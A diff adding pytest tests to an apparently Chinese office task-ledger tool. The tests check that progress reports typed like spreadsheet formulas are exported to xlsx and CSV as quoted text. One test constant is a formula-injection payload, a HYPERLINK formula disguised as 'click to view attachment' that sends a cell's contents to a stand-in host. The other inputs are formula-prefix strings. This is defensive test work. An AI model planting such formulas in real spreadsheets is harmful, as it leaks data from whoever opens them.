@@ -3,6 +3,10 @@ reader of returned sheets (status words, percentages, files that are not ledgers
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
+
 import pytest
 from openpyxl import Workbook, load_workbook
 from sqlalchemy import select
@@ -142,3 +146,35 @@ def test_task_keys_catch_a_typed_or_altered_id():
     for bad in (key.replace("T42", "T43"), "T42", "42", key[:-1] + ("0" if key[-1] != "0" else "1")):
         with pytest.raises(DubanError):
             parse_task_key(bad)
+
+
+LIVE = '=HYPERLINK("http://example.invalid/?leak="&C5,"点击查看附件")'
+
+
+@pytest.mark.parametrize("typed", [LIVE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+def test_a_report_that_looks_like_a_formula_stays_text_in_every_sheet(ledger_db, tmp_path, typed):
+    with transaction(ledger_db) as s:
+        first = s.scalars(select(Task).order_by(Task.id)).first()
+        key = task_key(first.id)
+    invoke("report", key, "--progress", typed)
+    for args in (["export", "ledger"], ["export", "ledger", "--by-unit"]):
+        out = tmp_path / "台账.xlsx"
+        invoke(*args, "--out", str(out))
+        with zipfile.ZipFile(out) as z:  # no formula anywhere in the file
+            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if "worksheets" in n)
+        cells = [c for ws in load_workbook(out).worksheets for r in ws.iter_rows() for c in r if c.value == typed]
+        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+        assert read_returns(out)  # and the office's own export still reads back
+    listed = invoke("tasks", "--format", "csv").output
+    row = next(r for r in csv.DictReader(io.StringIO(listed)) if r["key"] == key)
+    assert row["progress"] == "'" + typed
+
+
+def test_a_returned_report_that_looks_like_a_formula_comes_back_as_typed(ledger_db, tmp_path):
+    with transaction(ledger_db) as s:
+        key = task_key(s.scalars(select(Task).order_by(Task.id)).first().id)
+    invoke("report", key, "--progress", LIVE)
+    out = tmp_path / "台账.xlsx"
+    invoke("export", "ledger", "--out", str(out))
+    [row] = [r for sheet in read_returns(out) for r in sheet.rows if r.key == key]
+    assert row.progress == LIVE
